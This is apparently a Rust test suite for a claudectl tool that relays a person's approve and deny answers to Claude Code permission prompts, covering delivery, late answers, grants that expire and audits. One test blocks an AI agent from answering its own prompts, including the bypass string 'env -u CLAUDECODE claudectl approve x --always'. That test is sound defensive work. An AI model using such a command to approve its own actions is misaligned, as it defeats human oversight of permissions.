//! `claudectl approve` and `deny`: an answer reaches the very call that is asked about, once, or nobody.

use std::io::{BufRead, BufReader, Read, Write};
use std::os::unix::net::{UnixListener, UnixStream};
use std::path::PathBuf;
use std::process::{Child, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use claudectl_agents::processes::{Processes, System};
use claudectl_agents::prompts::{Listener, Prompt};
use claudectl_fleet::hooks::{ANSWERED, Event, Input};
use claudectl_fleet::session::rfc3339;
use claudectl_store::journal;
use claudectl_testkit::claude::drive::Drive;
use claudectl_testkit::{
    Claude, Cmd, LiveProcess, Mock, RegistryRow, Terminal, Transcript, World, now_ms, wait_for,
};
use rustix::process::{Pid, Signal, kill_process};
use serde_json::{Value, json};

use crate::hook::{answered, call, event, hook};
use crate::{A, B, world};

/// Far more than anything here needs: reached only when something is wrong.
const LONG: Duration = Duration::from_secs(60);

/// Claudectl by the real clock, as hooks go by.
fn cmd(world: &World, args: &[&str]) -> Cmd {
    world.cmd().env("CLAUDECTL_NOW", "").args(args)
}

fn bash(command: &str) -> Value {
    json!({"tool_name": "Bash", "tool_input": {"command": command}})
}

/// A hook that waits beside a prompt.
pub(crate) struct Waiting(Child);

impl Waiting {
    /// A call is made, and asked about.
    #[track_caller]
    pub(crate) fn start(world: &World, session: &str, id: &str, more: &Value) -> Self {
        let mut before = more.clone();
        before["tool_use_id"] = json!(id);
        call(world, session, "PreToolUse", before);
        Self::ask(world, session, more, sockets(world))
    }

    /// A call that was made is asked about, beside so many others.
    #[track_caller]
    fn ask(world: &World, session: &str, more: &Value, sockets: usize) -> Self {
        let asked = event(world, session, "PermissionRequest", more.clone());
        let mut child = hook(world, &Value::Null)
            .to_command()
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(asked.to_string().as_bytes()).unwrap();
        let opened = wait_for(LONG, || (self::sockets(world) > sockets).then_some(()));
        assert!(opened.is_some(), "no hook waits");
        Self(child)
    }

    /// The process of the hook.
    pub(crate) fn pid(&self) -> u32 {
        self.0.id()
    }

    /// Whether it has ended.
    pub(crate) fn is_over(&mut self) -> bool {
        self.0.try_wait().unwrap().is_some()
    }

    /// Stopped, or going on.
    fn signal(&self, signal: Signal) {
        let pid = self.pid();
        kill_process(Pid::from_raw(pid.cast_signed()).unwrap(), signal).unwrap();
        let stopped = signal == Signal::STOP;
        let is = || (System.facts(pid).unwrap().stopped == stopped).then_some(());
        assert!(wait_for(LONG, is).is_some());
    }

    /// What Claude Code is told in the end.
    pub(crate) fn told(mut self) -> Value {
        let mut told = String::new();
        self.0.stdout.take().unwrap().read_to_string(&mut told).unwrap();
        self.0.wait().unwrap();
        if told.is_empty() { Value::Null } else { serde_json::from_str(&told).unwrap() }
    }
}

impl Drop for Waiting {
    fn drop(&mut self) {
        self.0.kill().ok();
        self.0.wait().ok();
    }
}

pub(crate) fn sockets(world: &World) -> usize {
    std::fs::read_dir(world.state_dir().join("prompts")).map_or(0, Iterator::count)
}

pub(crate) fn decision(told: &Value) -> (&str, &str) {
    let output = &told["hookSpecificOutput"];
    assert_eq!(output["hookEventName"], "PermissionRequest", "{told}");
    let text = |key: &str| output["decision"][key].as_str().unwrap_or_default();
    (text("behavior"), text("message"))
}

#[test]
fn a_prompt_is_allowed_once() {
    let world = world();
    world.run(["tick"]).success();
    assert!(cmd(&world, &["approve"]).run().success().stdout.starts_with("No prompt is open"));
    let waiting = Waiting::start(&world, A, "t1", &bash("unheard-of 1"));
    let listed = cmd(&world, &["approve", "--json"]).run().success().json();
    let one = &listed[0];
    assert_eq!(
        (&one["session"], &one["tool_use_id"], &one["lines"]),
        (&json!(A), &json!("t1"), &json!(["unheard-of 1"]))
    );
    crate::docs::compare(&world, "claudectl approve --json", &["approve", "--json"], &[], &[]);
    let shown = cmd(&world, &["approve"]).run().success().stdout;
    assert!(shown.contains("unheard-of 1") && shown.contains("claudectl deny"), "{shown}");
    let done = cmd(&world, &["approve", &A[..6], "--json", "--call", "t1"]).run().success().json();
    assert_eq!((&done["state"], &done["decision"]), (&json!("delivered"), &json!("allow")));
    assert_eq!(decision(&waiting.told()), ("allow", ""));
    assert_eq!(sockets(&world), 0, "the socket goes with its hook");
    let audit = cmd(&world, &["gate", "audit", "--json"]).run().success().json();
    assert_eq!((&audit[0]["kind"], &audit[0]["subject"]), (&json!("approve"), &json!(A)), "{audit}");
    assert_eq!(
        (&audit[0]["payload"]["summary"], &audit[0]["state"]),
        (&json!("unheard-of 1"), &json!("delivered"))
    );
    // The state is to be seen at any width; a hash says nothing to a person.
    let shown = cmd(&world, &["gate", "audit"]).env("COLUMNS", "80").run().success().stdout;
    assert!(shown.contains("STATE") && shown.contains("delivered"), "{shown}");
    assert!(shown.contains("summary unheard-of 1") && !shown.contains("hash"), "{shown}");
    for command in ["approve", "deny"] {
        let late = cmd(&world, &[command, A]).run().fails_with(1);
        assert!(late.stdout.starts_with("too late: Bash unheard-of 1"), "{late:?}");
        assert!(late.stdout.contains("allow, by approve"), "{late:?}");
    }
}

/// Two people answer at once: the prompt was open when the second one looked, and is none that is asked now.
#[test]
fn what_was_answered_just_now_is_not_what_is_asked_now() {
    let world = world();
    world.run(["tick"]).success();
    let at = now_ms();
    let told = |event: &str, call: Option<&str>, hash: &str| Event {
        at,
        event: event.to_owned(),
        session: A.to_owned(),
        tool: Some("Bash".to_owned()),
        call: call.map(str::to_owned),
        input: Some(Input { summary: format!("make {hash}"), hash: hash.to_owned(), ..Input::default() }),
        kind: Some("allow".to_owned()),
        text: Some("approve".to_owned()),
        ..Event::default()
    };
    let day = jiff::Timestamp::from_millisecond(at).unwrap().strftime("%Y-%m-%d").to_string();
    let tell = |event: &Event| {
        journal::append(&world.state_dir(), &day, &serde_json::to_vec(event).unwrap()).unwrap();
    };
    tell(&told("PreToolUse", Some("t1"), "one"));
    tell(&told("PermissionRequest", None, "one"));
    // The hook that waited has written down the answer, and is not gone yet.
    let prompt = |at: i64, hash: &str| Prompt {
        session: A.to_owned(),
        tool: "Bash".to_owned(),
        hash: hash.to_owned(),
        summary: format!("make {hash}"),
        at,
        ..Prompt::default()
    };
    let listener = Listener::open(&world.state_dir(), &prompt(at, "one")).unwrap();
    tell(&told(ANSWERED, Some("t1"), "one"));
    let over = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !over.load(Ordering::Relaxed) {
                let given = listener.answer(Duration::from_millis(50), |_| true).unwrap();
                assert!(given.is_none(), "nothing is answered");
            }
        });
        let late = cmd(&world, &["deny", A]).run();
        over.store(true, Ordering::Relaxed);
        let said = &late.stdout;
        assert_eq!(late.code, 1, "{late:?}");
        assert!(said.starts_with("too late: Bash") && said.contains("allow, by approve"), "{said}");
        assert!(!said.contains("asks something else now"), "{said}");
    });
}

#[test]
fn a_prompt_is_denied_with_a_reason() {
    let world = world();
    world.run(["tick"]).success();
    let waiting = Waiting::start(&world, A, "t1", &bash("unheard-of 1"));
    cmd(&world, &["deny", A, "--reason", "not here"]).run().success();
    assert_eq!(decision(&waiting.told()), ("deny", "The user denied this call: not here"));
    let waiting = Waiting::start(&world, A, "t2", &bash("unheard-of 2"));
    crate::docs::compare(
        &world,
        "claudectl approve SESSION --json",
        &["deny", A, "--call", "t2", "--json"],
        &[],
        &[],
    );
    assert_eq!(decision(&waiting.told()), ("deny", "The user denied this call"));
}

#[test]
fn of_several_prompts_one_is_named() {
    let world = world();
    world.run(["tick"]).success();
    let first = Waiting::start(&world, A, "t1", &bash("unheard-of 1"));
    let mut of_agent = bash("unheard-of 2");
    of_agent["agent_id"] = json!("a1");
    let second = Waiting::start(&world, A, "t2", &of_agent);
    let other = Waiting::start(&world, B, "t3", &bash("unheard-of 3"));
    let out = cmd(&world, &["approve", A]).run().fails_with(1);
    assert!(out.stderr.contains("2 prompts are open"), "{}", out.stderr);
    for call in ["t1", "t2"] {
        let way = format!("claudectl approve {} --call {call}", &A[..8]);
        assert!(out.stderr.contains(&way), "{}", out.stderr);
    }
    let out = cmd(&world, &["approve", A, "--call", "t3"]).run().fails_with(1);
    assert!(
        out.stderr.contains("for call t3"),
        "a call of another session is none of this one: {}",
        out.stderr
    );
    cmd(&world, &["approve", A, "--call", "t2"]).run().success();
    assert_eq!(decision(&second.told()).0, "allow");
    cmd(&world, &["deny", A, "--call", "t1"]).run().success();
    assert_eq!(decision(&first.told()).0, "deny");
    cmd(&world, &["approve", B]).run().success();
    assert_eq!(decision(&other.told()).0, "allow");
}

#[test]
fn all_that_a_session_asks_is_answered_at_once() {
    let world = world();
    world.run(["tick"]).success();
    let first = Waiting::start(&world, A, "t1", &bash("unheard-of 1"));
    let second = Waiting::start(&world, A, "t2", &bash("unheard-of 2"));
    let other = Waiting::start(&world, B, "t3", &bash("unheard-of 3"));
    let done = cmd(&world, &["approve", A, "--all"]).run().success().stdout;
    for call in ["unheard-of 1", "unheard-of 2"] {
        assert!(done.contains(&format!("    {call}\n")), "it is shown: {done}");
        assert!(done.contains(&format!("delivered: allowed: Bash {call}\n")), "{done}");
    }
    assert!(!done.contains("unheard-of 3"), "{done}");
    assert_eq!([decision(&first.told()).0, decision(&second.told()).0], ["allow", "allow"]);
    let args = ["deny", B, "--all", "--reason", "not now", "--json"];
    let reports = cmd(&world, &args).run().success().json();
    assert_eq!((reports.as_array().unwrap().len(), &reports[0]["decision"]), (1, &json!("deny")));
    assert_eq!(decision(&other.told()).0, "deny");
    let none = cmd(&world, &["approve", A, "--all"]).run().fails_with(1).stderr;
    assert!(none.contains("nothing is asked in aaaaaaaa"), "{none}");
    for more in [&["--call", "t1"][..], &["--always"], &["--replace"]] {
        cmd(&world, &[&["approve", A, "--all"], more].concat()).run().fails_with(2);
    }
    cmd(&world, &["approve", "--all"]).run().fails_with(2);
    // One that does not answer is no answer that has landed; the other is given all the same.
    let still = Waiting::start(&world, A, "t4", &bash("unheard-of 4"));
    let moves = Waiting::start(&world, A, "t5", &bash("unheard-of 5"));
    still.signal(Signal::STOP);
    let out = cmd(&world, &["approve", A, "--all"]).run().fails_with(1);
    assert!(out.stdout.contains("delivered: allowed: Bash unheard-of 5"), "{}", out.stdout);
    assert!(out.stderr.contains("not landed"), "{}", out.stderr);
    assert_eq!(decision(&moves.told()).0, "allow");
    still.signal(Signal::CONT);
}

#[test]
fn calls_that_are_the_very_same_are_as_good_as_each_other() {
    let world = world();
    world.run(["tick"]).success();
    let same = bash("unheard-of 1");
    // Both are made before the first is asked about.
    call(&world, A, "PreToolUse", {
        let mut first = same.clone();
        first["tool_use_id"] = json!("t1");
        first
    });
    let one = Waiting::start(&world, A, "t2", &same);
    let sockets = sockets(&world);
    let two = Waiting::ask(&world, A, &same, sockets);
    let other = Waiting::start(&world, A, "t3", &bash("unheard-of 2"));
    let listed = || cmd(&world, &["approve", "--json"]).run().success().json();
    let calls: Vec<Value> =
        listed().as_array().unwrap().iter().map(|one| one["tool_use_id"].clone()).collect();
    assert_eq!(calls, [json!("t1"), json!("t2"), json!("t3")]);
    // Another call is named by its own id, whatever is open beside it.
    cmd(&world, &["deny", A, "--call", "t3"]).run().success();
    assert_eq!(decision(&other.told()).0, "deny");
    cmd(&world, &["approve", A, "--call", "t1"]).run().success();
    assert_eq!(decision(&one.told()).0, "allow");
    // What became of it is no end of the other.
    let mut made = same.clone();
    made["tool_use_id"] = json!("t1");
    call(&world, A, "PostToolUse", made);
    let late = cmd(&world, &["approve", A, "--call", "t1"]).run().fails_with(1);
    assert!(late.stdout.starts_with("too late") && late.stdout.contains("allow, by approve"), "{late:?}");
    assert_eq!(listed()[0]["tool_use_id"], "t2");
    cmd(&world, &["deny", A, "--call", "t2"]).run().success();
    assert_eq!(decision(&two.told()).0, "deny");
}

/// Whoever answers without a name has seen what was asked a moment ago.
#[test]
fn an_answer_is_not_for_the_call_that_comes_next() {
    let world = world();
    world.run(["tick"]).success();
    let first = Waiting::start(&world, A, "t1", &bash("unheard-of 1"));
    cmd(&world, &["approve", A]).run().success();
    assert_eq!(decision(&first.told()).0, "allow");
    let mut made = bash("unheard-of 1");
    made["tool_use_id"] = json!("t1");
    let second = Waiting::start(&world, A, "toolu_01abcdefghij", &bash("unheard-of --rm p9"));
    let late = cmd(&world, &["approve", A]).run().fails_with(1);
    assert!(late.stdout.starts_with("too late: Bash unheard-of 1\n"), "{late:?}");
    let next = format!("unheard-of --rm p9: claudectl approve {} --call 01abcdef", &A[..8]);
    assert!(late.stdout.contains("allow, by approve") && late.stdout.contains(&next), "{late:?}");
    // One that was made since was answered, too, though nobody says how.
    call(&world, A, "PostToolUse", made);
    let late = cmd(&world, &["deny", A, "--json"]).run().fails_with(1);
    assert!(late.stdout.contains("too-late"), "{late:?}");
    // The call that was answered is not the one that is open.
    let late = cmd(&world, &["approve", A, "--call", "t1"]).run().fails_with(1);
    assert!(late.stdout.starts_with("too late: Bash unheard-of 1\n"), "{late:?}");
    let out = cmd(&world, &["approve", A, "--call", "t9"]).run().fails_with(1);
    assert!(out.stderr.contains("--call 01abcdef"), "{}", out.stderr);
    cmd(&world, &["deny", A, "--call", "01abcdef"]).run().success();
    assert_eq!(decision(&second.told()).0, "deny");
}

#[test]
fn what_is_always_allowed_is_a_grant_that_ends() {
    let world = world();
    world.run(["tick"]).success();
    let waiting = Waiting::start(&world, A, "t1", &bash("unheard-of --once"));
    let out = cmd(&world, &["approve", A, "--always"]).run().success();
    assert!(out.stdout.contains("Kept as g1, of exactly this call"), "{}", out.stdout);
    assert_eq!(decision(&waiting.told()).0, "allow");
    assert!(!world.home().join(".config/claudectl/rules.toml").exists());
    let listed = cmd(&world, &["rules", "ls"]).run().success().stdout;
    assert!(listed.contains("exactly: Bash unheard-of --once; in $WORK; until "), "{listed}");
    assert!(listed.contains("allow  g1  (for a while)"), "{listed}");
    let checked = cmd(&world, &["gate", "check", "unheard-of --once"]).run();
    assert_eq!((checked.code, checked.stdout.starts_with("allow")), (0, true), "{checked:?}");
    assert!(checked.stdout.contains("you have allowed exactly this call (g1)"), "{checked:?}");
    for like in ["unheard-of --twice", "unheard-of --once --twice", "unheard-of  --once"] {
        cmd(&world, &["gate", "check", like]).run().fails_with(1);
    }
    world.write("work/sub/x", "");
    let elsewhere = cmd(&world, &["gate", "check", "unheard-of --once", "--cwd", "sub"]).run().fails_with(1);
    assert!(elsewhere.stdout.starts_with("ask"), "in another folder it asks: {elsewhere:?}");

    let waiting = Waiting::start(&world, A, "t2", &bash("unheard-of --session"));
    let done = cmd(&world, &["approve", A, "--for", "20m", "--call", "t2", "--json"]).run().success().json();
    assert_eq!(done["rule"], "g2");
    assert_eq!(decision(&waiting.told()).0, "allow");
    let other = cmd(&world, &["gate", "check", "unheard-of --session"]).run().fails_with(1);
    assert!(other.stdout.starts_with("ask"), "in another session it asks: {}", other.stdout);
    call(
        &world,
        A,
        "PreToolUse",
        json!({"tool_name": "Bash", "tool_input": {"command": "unheard-of --session"}, "tool_use_id": "t3"}),
    );
    let log = cmd(&world, &["gate", "log", "--json"]).run().success().json();
    assert_eq!((&log[0]["verdict"], &log[0]["rule"]), (&json!("allow"), &json!("g2")), "{}", log[0]);
    assert_eq!(log[0]["reason"], "you have allowed exactly this call (g2)");

    // What cannot be understood is answered this once, or not at all.
    let waiting = Waiting::start(&world, A, "t4", &bash("X=$(date); $X"));
    let out = cmd(&world, &["approve", A, "--call", "t4", "--always"]).run().fails_with(1);
    assert!(out.stderr.contains("this call can only be answered this once"), "{}", out.stderr);
    assert!(out.stderr.contains("cannot be understood"), "{}", out.stderr);
    cmd(&world, &["approve", A, "--call", "t4"]).run().success();
    assert_eq!(decision(&waiting.told()).0, "allow");

    let waiting = Waiting::start(&world, A, "t5", &bash("unheard-of --never"));
    cmd(&world, &["deny", A, "--call", "t5", "--always", "--reason", "too slow"]).run().success();
    assert_eq!(decision(&waiting.told()).0, "deny");
    let checked = cmd(&world, &["gate", "check", "unheard-of --never"]).run().fails_with(1);
    assert!(checked.stdout.starts_with("deny  too slow"), "{}", checked.stdout);
}

#[test]
fn where_a_prompt_can_be_answered_is_said_beside_the_session() {
    let world = world();
    world.run(["tick"]).success();
    let process = LiveProcess::start(&world.work_dir());
    RegistryRow::new(process.pid(), A, world.work_dir())
        .status("waiting")
        .waiting_for("permission prompt")
        .write(&world.config_dir());
    let shown = || cmd(&world, &["ls"]).run().success().stdout;
    let waiting = Waiting::start(&world, A, "t1", &bash("unheard-of 1"));
    assert!(shown().contains(&format!("to answer: claudectl approve {} --call t1", &A[..8])), "{}", shown());
    cmd(&world, &["approve", A]).run().success();
    waiting.told();
    assert!(!shown().contains("to answer"), "{}", shown());
}

#[test]
fn a_prompt_that_is_over_ends_its_hook() {
    let world = world();
    world.run(["tick"]).success();
    let more = bash("unheard-of 1");
    let mut done = more.clone();
    done["tool_use_id"] = json!("t1");
    for name in ["PostToolUse", "UserPromptSubmit", "Stop", "SessionEnd"] {
        let waiting = Waiting::start(&world, A, "t1", &more);
        call(&world, A, name, if name == "PostToolUse" { done.clone() } else { json!({}) });
        assert_eq!(waiting.told(), Value::Null, "{name}");
        let late = cmd(&world, &["approve", A]).run().fails_with(1);
        assert!(late.stdout.contains("answered at its terminal, or is over"), "{name}: {late:?}");
    }
    // A hook that was killed leaves nothing that could be answered.
    let mut waiting = Waiting::start(&world, A, "t2", &more);
    waiting.0.kill().unwrap();
    waiting.0.wait().unwrap();
    assert_eq!(cmd(&world, &["approve", "--json"]).run().success().json(), json!([]));
    assert_eq!(sockets(&world), 0);
}

/// It waits all the same: that is told, with a way out, and keeps nobody from answering others.
#[test]
fn a_hook_that_is_stopped_is_told() {
    let world = world();
    world.run(["tick"]).success();
    let process = LiveProcess::start(&world.work_dir());
    RegistryRow::new(process.pid(), A, world.work_dir())
        .waiting_for("permission prompt")
        .write(&world.config_dir());
    let waiting = Waiting::start(&world, A, "t1", &bash("unheard-of 1"));
    let other = Waiting::start(&world, B, "t2", &bash("unheard-of 2"));
    waiting.signal(Signal::STOP);
    let (pid, short) = (waiting.pid(), &A[..8]);
    let why = format!("the hook that waits there (process {pid}) is stopped");
    let way =
        format!("let it go on: kill -CONT {pid}; or answer it at its terminal: claudectl attach {short}");
    let listed = cmd(&world, &["approve"]).run().success().stdout;
    assert!(listed.contains("unheard-of 2") && !listed.contains("No prompt is open"), "{listed}");
    assert!(listed.contains(&format!("{short} asks something, but {why}; {way}\n")), "{listed}");
    let out = cmd(&world, &["approve", "--json"]).run().success();
    assert!(out.json().as_array().unwrap().len() == 1 && out.stderr.contains(&why), "{out:?}");
    for args in [&["approve", A][..], &["deny", A, "--call", "t1"]] {
        let out = cmd(&world, args).run().fails_with(1);
        assert!(out.stderr.contains(&why) && out.stderr.contains(&way), "{out:?}");
    }
    let shown = cmd(&world, &["ls"]).run().success().stdout;
    assert!(shown.contains(&format!("to answer: claudectl attach {short} ({why})")), "{shown}");
    cmd(&world, &["approve", B]).run().success();
    assert_eq!(decision(&other.told()).0, "allow");
    waiting.signal(Signal::CONT);
    cmd(&world, &["approve", A, "--call", "t1"]).run().success();
    assert_eq!(decision(&waiting.told()).0, "allow");
}

/// A hook that reads an answer and is gone before it says what became of it; what its client has made of that.
fn dies_over_an_answer(world: &World, then: impl FnOnce() + Send, answer: impl FnOnce()) {
    let waiting = Waiting::start(world, A, "t1", &bash("unheard-of 1"));
    let socket = |pid: u32| -> PathBuf { world.state_dir().join(format!("prompts/aaaaaaaa-{pid}.sock")) };
    let mut asked = String::new();
    BufReader::new(UnixStream::connect(socket(waiting.pid())).unwrap()).read_line(&mut asked).unwrap();
    drop(waiting);
    std::fs::remove_dir_all(world.state_dir().join("prompts")).unwrap();
    std::fs::create_dir(world.state_dir().join("prompts")).unwrap();
    let listener = UnixListener::bind(socket(std::process::id())).unwrap();
    std::thread::scope(|scope| {
        scope.spawn(|| {
            for peer in listener.incoming() {
                let mut peer = peer.unwrap();
                peer.write_all(asked.as_bytes()).unwrap();
                let mut given = String::new();
                // Most only look.
                if BufReader::new(&peer).read_line(&mut given).is_ok() && !given.is_empty() {
                    return then();
                }
            }
        });
        answer();
    });
}

#[test]
fn an_answer_of_which_nothing_is_heard_is_not_called_too_late() {
    for (source, state, code, audited) in [
        (None, "unknown", 1, false),
        (Some("hook"), "confirmed", 0, true),
        (Some("user_temporary"), "too-late", 1, false),
    ] {
        let world = world();
        world.run(["tick"]).success();
        let transcript = world.config_dir().join(format!("projects/-w/{A}.jsonl"));
        std::fs::create_dir_all(transcript.parent().unwrap()).unwrap();
        let row = source.map(|source| {
            let content = json!([{"type": "tool_result", "tool_use_id": "t1", "content": "done"}]);
            json!({
                "type": "user", "timestamp": "2026-11-24T12:00:00.000Z", "sessionId": A,
                "message": {"role": "user", "content": content},
                "permissionDecision": {"decision": "accept", "source": source},
            })
        });
        let made = || {
            if let Some(row) = row {
                std::fs::write(&transcript, format!("{row}\n")).unwrap();
            }
        };
        dies_over_an_answer(&world, made, || {
            let out = cmd(&world, &["approve", A, "--call", "t1", "--always", "--json"]).run();
            let done = out.json();
            assert_eq!((&done["state"], out.code), (&json!(state), code), "{out:?}");
            let note = done["note"].as_str().unwrap_or_default();
            assert_eq!(note.contains("may have been told, or not"), state == "unknown", "{note}");
            assert_eq!(done["rule"].is_null(), code == 1, "{done}");
        });
        assert_eq!(rules(&world).is_empty(), code == 1);
        let audit = cmd(&world, &["gate", "audit", "--json"]).run().success().json();
        assert_eq!(audit.as_array().unwrap().iter().any(|one| one["kind"] == "approve"), audited, "{audit}");
    }
}

/// Our hook hands an answer over; it is the person's all the same.
#[test]
fn a_report_counts_an_answer_from_elsewhere_as_the_persons() {
    let world = world();
    world.run(["tick"]).success();
    let mut transcript = Transcript::new(A, world.work_dir());
    transcript.at(&rfc3339(now_ms()).unwrap()).model("claude-opus-5-5").prompt("go");
    transcript.write(&world.config_dir());
    for (id, command) in [("t1", "approve"), ("t2", "deny")] {
        let waiting = Waiting::start(&world, A, id, &bash(&format!("unheard-of {id}")));
        cmd(&world, &[command, A, "--call", id]).run().success();
        waiting.told();
    }
    let report = cmd(&world, &["report", "--since", "1h", "--json"]).run().success().json();
    assert_eq!(report["totals"]["dialogs"], json!({"allowed": 1, "turned-down": 1}), "{report}");
}

/// A client that was killed leaves its row behind, and its prompt is over.
#[test]
fn a_prompt_of_a_client_that_was_killed_is_over() {
    let world = world();
    world.run(["tick"]).success();
    let process = LiveProcess::start(&world.work_dir());
    RegistryRow::new(process.pid(), A, world.work_dir())
        .waiting_for("permission prompt")
        .write(&world.config_dir());
    let listed = || cmd(&world, &["approve"]).run().success().stdout;
    assert!(listed().contains("asks at its terminal"), "{}", listed());
    drop(process);
    assert!(listed().starts_with("No prompt is open"), "{}", listed());
    assert!(!listed().contains("asks at its terminal"), "{}", listed());
}

/// Hooks that stand before calls, and none beside prompts: the entry that is missing is named.
#[test]
fn an_entry_that_is_missing_is_named() {
    let world = world();
    world.run(["tick"]).success();
    let process = LiveProcess::start(&world.work_dir());
    RegistryRow::new(process.pid(), A, world.work_dir())
        .version("2.1.330")
        .waiting_for("permission prompt")
        .write(&world.config_dir());
    world.run(["init", "--binary", "/bin/true", "--host-version", "2.1.330"]).success();
    let file = world.config_dir().join("settings.json");
    let mut settings: Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    settings["hooks"].as_object_mut().unwrap().remove("PermissionRequest");
    std::fs::write(&file, settings.to_string()).unwrap();
    let said = "user settings do not call claudectl beside prompts (PermissionRequest): there is no entry";
    let out = cmd(&world, &["approve", A]).run().fails_with(1);
    assert!(out.stderr.contains(said) && !out.stderr.contains("older than our hooks"), "{}", out.stderr);
    let shown = cmd(&world, &["ls", "--json"]).run().success().json();
    assert!(shown[0]["gate"]["cause"].as_str().unwrap_or_default().contains(said), "{shown}");
}

/// Who sits there is told why, and what to do, whatever the reason is.
#[test]
fn why_nothing_can_be_answered_from_here_is_told() {
    let world = world();
    world.run(["tick"]).success();
    let process = LiveProcess::start(&world.work_dir());
    let row = || {
        RegistryRow::new(process.pid(), A, world.work_dir()).named("fixer").waiting_for("permission prompt")
    };
    let told = |row: RegistryRow, wanted: &[&str]| {
        row.write(&world.config_dir());
        let out = cmd(&world, &["approve", A]).run().fails_with(1);
        assert!(wanted.iter().all(|text| out.stderr.contains(text)), "{wanted:?}: {}", out.stderr);
    };
    let attach = format!("claudectl attach {}", &A[..8]);
    told(row(), &["our hooks do not stand before it", "claudectl init", &attach]);
    let listed = cmd(&world, &["approve"]).run().success().stdout;
    assert!(listed.contains(&format!("asks at its terminal, permission prompt: {attach}")), "{listed}");
    told(
        row().version("2.0.30"),
        &["Claude Code 2.0.30 tells hooks nothing of its prompts; 2.0.45", &attach],
    );
    told(row().entrypoint("sdk-cli"), &["without a terminal", "config set approvals.headless defer"]);
    world.run(["init", "--binary", "/bin/true", "--host-version", "2.1.330"]).success();
    told(row(), &["no hook of ours was told", &attach]);
    told(row().waiting_for("input needed"), &["asks you to choose", &attach]);
    told(row().status("busy"), &["`claudectl approve` lists"]);
    world.write("home/.config/claudectl/config.toml", "[approvals]\nheadless = \"defer\"\n");
    told(row().entrypoint("sdk-cli"), &["ends at a call that asks", "`claudectl approve` lists"]);
    // Hooks were told, and none waits.
    call(&world, A, "PermissionRequest", bash("unheard-of 1"));
    told(row(), &["open for longer than approvals.wait", &attach]);
    world.write("home/.config/claudectl/config.toml", "[approvals]\nwait = \"0s\"\n");
    told(row(), &["approvals.wait is 0s", "config set approvals.wait 8h"]);
}

/// A run without a terminal, whose hook a test calls in place of its client: what it is told before the call.
fn deferred(world: &World) -> String {
    let more = json!({"tool_name": "Bash", "tool_input": {"command": "unheard-of 1"}, "tool_use_id": "t1"});
    answered(hook(world, &event(world, A, "PreToolUse", more)).env("CLAUDECTL_NOW", "")).0
}

/// A world in which such a run has ended at a call.
fn ended() -> World {
    let world = world();
    world.write(
        "home/.config/claudectl/config.toml",
        "[gate]\nmode = \"on\"\n[approvals]\nheadless = \"defer\"\n",
    );
    RegistryRow::new(std::process::id(), A, world.work_dir())
        .entrypoint("sdk-cli")
        .write(&world.config_dir());
    cmd(&world, &["tick"]).run().success();
    assert_eq!(deferred(&world), "defer");
    world
}

#[test]
fn an_answer_that_cannot_be_acted_on_is_not_lost() {
    let world = ended();
    let done = cmd(&world, &["approve", A, "--json"]).run().success().json();
    assert_eq!(done["state"], "queued", "{done}");
    let left = || std::fs::read_dir(world.state_dir().join("approvals")).unwrap().count();
    // Nothing can be written down, so the call is not allowed.
    let (journal, aside) = (world.state_dir().join("journal"), world.root().join("aside"));
    std::fs::rename(&journal, &aside).unwrap();
    std::fs::write(&journal, "").unwrap();
    assert_eq!((deferred(&world).as_str(), left()), ("deny", 1));
    std::fs::remove_file(&journal).unwrap();
    std::fs::rename(&aside, &journal).unwrap();
    assert_eq!((deferred(&world).as_str(), left()), ("allow", 0));
    assert_eq!(deferred(&world), "defer", "it counts once");
}

#[test]
fn an_answer_to_a_run_that_was_taken_up_is_too_late() {
    let world = ended();
    cmd(&world, &["approve", A]).run().success();
    // A hook acts on it, as long as it holds its lock.
    let folder = world.state_dir().join("approvals");
    let taken = folder.join(format!("{A}.1-0.taken"));
    std::fs::rename(folder.join(format!("{A}.json")), &taken).unwrap();
    let held = std::fs::File::open(&taken).unwrap();
    held.lock().unwrap();
    for more in [&[][..], &["--replace"]] {
        let late = cmd(&world, &[&["deny", A, "--json"][..], more].concat()).run().fails_with(1).json();
        assert_eq!(late["state"], "too-late", "{late}");
        assert!(late["note"].as_str().unwrap().contains("taken up just now"), "{late}");
    }
    // It was killed before it could.
    drop(held);
    let done = cmd(&world, &["deny", A, "--json"]).run().success().json();
    assert_eq!(done["state"], "queued", "{done}");
    assert_eq!(deferred(&world), "deny");
}

/// What hooks and writers left that were killed, and answers that nobody has taken up in a day.
#[test]
fn a_pass_tidies_what_was_left_of_answers() {
    let world = ended();
    cmd(&world, &["approve", A]).run().success();
    let folder = world.state_dir().join("approvals");
    let left = |name: &str| folder.join(format!("{B}.{name}"));
    let tomorrow = jiff::Timestamp::from_millisecond(now_ms()).unwrap() + Duration::from_secs(25 * 3600);
    let written = |file: std::fs::File, seconds: i64| {
        let at = std::time::SystemTime::UNIX_EPOCH + Duration::from_secs(seconds.unsigned_abs());
        file.set_modified(at).unwrap();
    };
    for name in ["json", "1-0.taken", "1-0.new", "taken"] {
        written(std::fs::File::create(left(name)).unwrap(), 0);
    }
    let waits = std::fs::File::options().write(true).open(folder.join(format!("{A}.json"))).unwrap();
    written(waits, tomorrow.as_second() - 3600);
    world.cmd().env("CLAUDECTL_NOW", tomorrow.to_string()).args(["tick"]).run().success();
    let names: Vec<_> = std::fs::read_dir(&folder).unwrap().map(|entry| entry.unwrap().file_name()).collect();
    assert_eq!(names, [format!("{A}.json").as_str()], "what still waits is left alone");
}

#[test]
fn an_agent_answers_nothing() {
    let world = world();
    world.run(["tick"]).success();
    let waiting = Waiting::start(&world, A, "t1", &bash("unheard-of 1"));
    for command in ["approve", "deny"] {
        let out = cmd(&world, &[command, A]).env("CLAUDECODE", "1").run().fails_with(2);
        assert!(out.stderr.contains("is for people"), "{}", out.stderr);
        assert!(out.stderr.contains("who answers prompts is a person"), "{}", out.stderr);
    }
    for command in
        ["claudectl approve x", "claudectl deny x", "env -u CLAUDECODE claudectl approve x --always"]
    {
        let checked = cmd(&world, &["gate", "check", command]).run().fails_with(1);
        assert!(checked.stdout.starts_with("deny  is for people"), "{command}: {}", checked.stdout);
        assert!(checked.stdout.contains("who answers prompts is a person"), "{command}: {}", checked.stdout);
    }
    cmd(&world, &["approve", A]).run().success();
    assert_eq!(decision(&waiting.told()).0, "allow");
}

/// Nor by a key: whoever holds the dashboard's terminal answers prompts.
#[test]
